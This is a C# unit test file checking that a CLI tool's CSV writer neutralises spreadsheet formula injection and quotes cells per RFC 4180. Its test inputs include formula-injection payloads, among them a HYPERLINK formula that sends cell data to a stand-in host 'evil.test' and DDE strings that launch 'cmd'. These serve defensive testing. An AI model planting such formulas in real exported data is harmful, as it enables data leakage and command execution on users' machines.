using Reach.Cli.Rendering;

namespace Reach.Cli.Tests.Rendering;

/// <summary>CSV cells of text from elsewhere: never a formula in a spreadsheet, always one RFC 4180 cell.</summary>
public class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\n=1+1", "\"'\n=1+1\"")]
    public void ACellAFormulaWouldStartWith_GetsAQuoteFirst(string text, string expected)
    {
        Assert.Equal(expected, CsvCell.Text(text));
    }

    [Theory]
    [InlineData("SSH-2.0-OpenSSH_9.2p1 Debian-2", "SSH-2.0-OpenSSH_9.2p1 Debian-2")] // a formula character later on is harmless
    [InlineData("CN=web01.test", "CN=web01.test")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("x;=1+1", "\"x;=1+1\"")] // Excel splits on ';' in locales with a decimal comma
    [InlineData("", "")]
    [InlineData(null, "")]
    public void OtherText_IsAsItIs_QuotedWhereRfc4180AsksIt(string? text, string expected)
    {
        Assert.Equal(expected, CsvCell.Text(text));
    }
}
